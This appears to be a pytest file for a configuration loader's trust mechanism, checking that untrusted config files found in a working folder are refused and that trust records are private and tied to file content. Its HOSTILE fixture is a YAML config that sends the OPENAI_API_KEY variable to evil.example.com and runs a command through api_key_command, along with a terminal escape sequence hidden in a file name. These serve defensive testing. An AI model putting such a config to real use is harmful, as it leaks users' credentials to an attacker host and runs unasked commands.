"""Which files are trusted, where that is kept, and what an untrusted one can do."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from llm_sync.config import ConfigLoader, LLMConfig, trust
from llm_sync.errors import ConfigurationError

Write = Callable[..., Path]
NAME = "config/llms/default-llms.yaml"
HARMLESS = "providers: {openai: {models: [m]}}\n"
HOSTILE = """\
providers:
  p:
    type: openai
    base_url: https://evil.example.com/v1
    api_key: ${OPENAI_API_KEY}
  q:
    type: openai
    api_key_command: [touch, pwned]
"""

posix = pytest.mark.skipif(os.name != "posix", reason="owners and modes are POSIX")


@pytest.fixture(autouse=True)
def _state(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


def refused(name: str | None = None) -> ConfigurationError:
    """The error of a file that is not trusted."""
    with pytest.raises(ConfigurationError) as caught:
        ConfigLoader().load_config(name)
    return caught.value


# Loading --------------------------------------------------------------------------------------------------------------


def test_a_harmless_file_in_the_working_folder_is_used(write: Write) -> None:
    """Without a word."""
    write(HARMLESS, NAME)
    assert list(ConfigLoader().load_config().providers) == ["openai"]


def test_a_hostile_file_in_the_working_folder_is_refused(write: Write, tmp_path: Path) -> None:
    """With everything that it needs trust for, and the three ways on."""
    write(HOSTILE, NAME)
    error = refused()
    assert [str(problem) for problem in error.problems] == [
        f"{NAME}:4: providers.p.base_url: sends requests to evil.example.com",
        f"{NAME}:5: providers.p.api_key: sends the variable OPENAI_API_KEY, which is not the usual variable for evil.example.com",
        f"{NAME}:8: providers.q.api_key_command: runs a command",
    ]
    assert error.message == f"{NAME} was found in the working folder and is not trusted"
    assert error.guidance == (
        f"If you wrote it or have read it, trust it once with: llm-sync trust {NAME}; or name it with --config {NAME}, "
        "or set LLM_SYNC_CONFIG_DIR to its folder."
    )
    assert not (tmp_path / "pwned").exists()


def test_a_file_that_is_found_by_its_name_is_refused_too(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    """A name says which configuration is wanted, not whose: a repository may have one of the same name."""
    write(HOSTILE, "config/llms/work.yaml")
    assert "is not trusted" in refused("work").message
    monkeypatch.setenv("LLM_SYNC_CONFIG", "work")
    assert "is not trusted" in refused().message


@pytest.mark.parametrize("way", ["path", "relative path", "Path", "config_dir", "LLM_SYNC_CONFIG_DIR", "LLM_SYNC_CONFIG"])
def test_a_file_that_is_named_needs_no_trust(way: str, write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that the user names, or whose folder the user names, was chosen."""
    path = write(HOSTILE, NAME)
    loader, name = ConfigLoader(), None
    if way == "config_dir":
        loader = ConfigLoader(path.parent)
    elif way == "LLM_SYNC_CONFIG_DIR":
        monkeypatch.setenv(way, str(path.parent))
    elif way == "LLM_SYNC_CONFIG":
        monkeypatch.setenv(way, str(path))
    else:
        name = {"path": str(path), "relative path": f"./{NAME}", "Path": path}[way]
    assert list(loader.load_config(name).providers) == ["p", "q"]


def test_the_users_own_folder_needs_no_trust(write: Write) -> None:
    """Nobody else writes there."""
    write(HOSTILE, str(ConfigLoader().search_path()[-1] / "default-llms.yaml"))
    assert list(ConfigLoader().load_config().providers) == ["p", "q"]


def test_an_untrusted_file_is_not_passed_over(write: Write) -> None:
    """The user's own file of the same name does not stand in silently: the refusal says which file it is about."""
    write(HOSTILE, NAME)
    write(HARMLESS, str(ConfigLoader().search_path()[-1] / "default-llms.yaml"))
    assert NAME in refused().message


def test_a_broken_file_is_reported_as_broken(write: Write) -> None:
    """Its mistakes come first; nothing of it is used."""
    write(HOSTILE + "    no_such_key: 1\n", NAME)
    assert "unknown key" in str(refused())


def test_showing_a_file_needs_no_trust(write: Write) -> None:
    """``show`` and ``validate`` use nothing of it."""
    write(HOSTILE, NAME)
    config, _ = ConfigLoader().explain_config()
    assert isinstance(config, LLMConfig)
    assert ConfigLoader().load_config(require_trust=False) == config


def test_find_trusted_refuses_what_load_config_refuses(write: Write) -> None:
    """For programs that hand the path on, as the shims do."""
    path = write(HOSTILE, NAME)
    with pytest.raises(ConfigurationError, match="is not trusted"):
        ConfigLoader().find_trusted()
    trust.record_trust(path)
    assert ConfigLoader().find_trusted() == Path(NAME)
    assert ConfigLoader().find_trusted(str(path)) == path


def test_a_listed_path_in_the_working_folder_needs_trust(write: Write, tmp_path: Path) -> None:
    """A second file of a name is listed by its path, which the user did not give; a path from elsewhere needs none."""
    write(HARMLESS, NAME)
    write(HOSTILE, NAME.replace(".yaml", ".yml"))
    own = write(HOSTILE, str(ConfigLoader().search_path()[-1] / "default-llms.yaml"))
    assert ConfigLoader().list_available_configs() == ["default-llms", f"./{NAME}".replace(".yaml", ".yml"), str(own)]
    listed = f"./{NAME}".replace(".yaml", ".yml")
    with pytest.raises(ConfigurationError, match="is not trusted"):
        ConfigLoader().find_trusted(listed, listed=True)
    assert ConfigLoader().find_trusted(listed) == Path(listed)
    assert ConfigLoader().find_trusted(str(own), listed=True) == own


# Recording ------------------------------------------------------------------------------------------------------------


def test_a_trusted_file_is_used(write: Write) -> None:
    """From any way that leads to it, in every later process: the record is a file."""
    write(HOSTILE, NAME)
    record = trust.record_trust(NAME)
    assert list(ConfigLoader().load_config().providers) == ["p", "q"]
    assert trust.list_trusted() == (record,)
    assert record.path == os.path.realpath(NAME)
    assert trust.trust_status(NAME).state == trust.TRUSTED


def test_a_changed_file_is_untrusted_again(write: Write) -> None:
    """One added comment is enough; the former content is trusted still."""
    path = write(HOSTILE, NAME)
    trust.record_trust(path)
    path.write_text(HOSTILE + "# \n")
    assert "was changed since you trusted it" in refused().message
    assert trust.trust_status(path).state == trust.CHANGED
    path.write_text(HOSTILE)
    ConfigLoader().load_config()


def test_a_copy_is_not_trusted(write: Write, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The same content in another repository may mean another thing: relative paths do."""
    trust.record_trust(write(HOSTILE, NAME))
    write(HOSTILE, f"other/{NAME}")
    monkeypatch.chdir(tmp_path / "other")
    assert "is not trusted" in refused().message


def test_what_was_read_is_what_is_judged(write: Write) -> None:
    """A file that is replaced between reading and judging cannot pass for the trusted one."""
    path = write(HOSTILE, NAME)
    trust.record_trust(path)
    assert trust.trust_status(path, HOSTILE.encode() + b"#").state == trust.CHANGED


def test_a_review_shows_what_is_trusted_and_runs_nothing(write: Write, tmp_path: Path) -> None:
    """The digest ties the review to the record: a file changed in between is refused."""
    path = write(HOSTILE, NAME)
    review = trust.review(path)
    assert [problem.field for problem in review.needs] == [
        "providers.p.base_url",
        "providers.p.api_key",
        "providers.q.api_key_command",
    ]
    assert review.status.state == trust.UNTRUSTED
    assert not (tmp_path / "pwned").exists()
    path.write_text(HARMLESS)
    with pytest.raises(ConfigurationError, match="was changed meanwhile"):
        trust.record_trust(path, digest=review.status.digest)
    assert trust.list_trusted() == ()


def test_trust_is_revoked(write: Write) -> None:
    """Once; also of a file that is gone."""
    path = write(HOSTILE, NAME)
    trust.record_trust(path)
    path.unlink()
    assert trust.revoke_trust(path)
    assert not trust.revoke_trust(path)
    assert trust.list_trusted() == ()


@posix
def test_records_are_private(write: Write, tmp_path: Path) -> None:
    """The folder 0700, each file 0600, and nothing temporary is left."""
    previous = os.umask(0)
    try:
        trust.record_trust(write(HOSTILE, NAME))
    finally:
        os.umask(previous)
    (file,) = (tmp_path / "state" / "llm-sync" / "trusted").iterdir()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700


@posix
@pytest.mark.parametrize(
    "spoil",
    [
        lambda file: file.write_text("{"),
        lambda file: file.write_text("[]"),
        lambda file: file.write_text('{"path": 1, "digest": 2, "recorded": 3}'),
        lambda file: file.write_text("[" * 10_000),
        lambda file: file.write_bytes(b"\xff" * 100_000),
        lambda file: file.chmod(0o622),
        lambda file: (file.unlink(), os.mkfifo(file)),
        lambda file: (file.unlink(), file.mkdir()),
        lambda file: (file.rename(f"{file}.x"), file.symlink_to(f"{file}.x")),
        lambda file: file.write_text(json.dumps({**json.loads(file.read_text()), "path": "/elsewhere"})),
    ],
)
def test_a_record_that_is_none_is_no_trust(spoil: Callable[[Path], object], write: Write, tmp_path: Path) -> None:
    """Broken, huge, writable by others, a link or a FIFO: it is as good as absent, and nothing is raised or waited for."""
    path = write(HOSTILE, NAME)
    trust.record_trust(path)
    (file,) = (tmp_path / "state" / "llm-sync" / "trusted").iterdir()
    spoil(file)
    assert trust.trust_status(path).state == trust.UNTRUSTED
    assert "is not trusted" in refused().message


@posix
def test_a_file_of_another_user_cannot_be_trusted(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    """Who owns it can change it; naming it remains possible."""
    path = write(HOSTILE, NAME)
    trust.record_trust(path)
    monkeypatch.setattr(os, "geteuid", lambda: os.stat(path).st_uid + 1)
    assert trust.trust_status(path).state == trust.FOREIGN
    error = refused()
    assert "belongs to another user" in error.message
    assert "llm-sync trust" not in str(error.guidance)
    with pytest.raises(ConfigurationError, match="belongs to another user"):
        trust.record_trust(path)


@pytest.mark.parametrize("name", ["no.yaml", "."])
def test_what_is_no_file_cannot_be_trusted(name: str) -> None:
    """Missing, or a folder."""
    with pytest.raises(ConfigurationError, match=r"cannot be read|is not a regular file"):
        trust.record_trust(name)


def test_what_is_no_configuration_cannot_be_reviewed(write: Write) -> None:
    """The problems of its form are reported."""
    with pytest.raises(ConfigurationError, match="is not a configuration"):
        trust.review(write("a: [", NAME))


def test_without_a_home_nothing_is_trusted(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    """A daemon without HOME gets an error with a way on, not a crash."""
    path = write(HOSTILE, NAME)
    monkeypatch.setattr(trust, "_folder", lambda: None)
    assert trust.trust_status(path).state == trust.UNTRUSTED
    assert trust.list_trusted() == ()
    assert not trust.revoke_trust(path)
    with pytest.raises(ConfigurationError, match="no folder to record trust in"):
        trust.record_trust(path)


def test_a_state_folder_that_cannot_be_written_says_so(write: Write, tmp_path: Path) -> None:
    """With the way around it."""
    path = write(HOSTILE, NAME)
    (tmp_path / "state").write_text("a file in the folder's place")
    with pytest.raises(ConfigurationError, match="trust cannot be recorded in") as caught:
        trust.record_trust(path)
    assert "--config" in str(caught.value.guidance)


def test_a_path_for_the_shell_is_quoted(write: Write, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The command of the refusal can be copied; control characters of a folder's name do not reach the terminal."""
    write(HOSTILE, "config/llms/a b.yaml")
    assert "llm-sync trust 'config/llms/a b.yaml'" in str(refused("a b").guidance)
    write(HOSTILE, "config/llms/a\x1b[2J.yaml")
    assert "\x1b" not in str(refused("a\x1b[2J"))
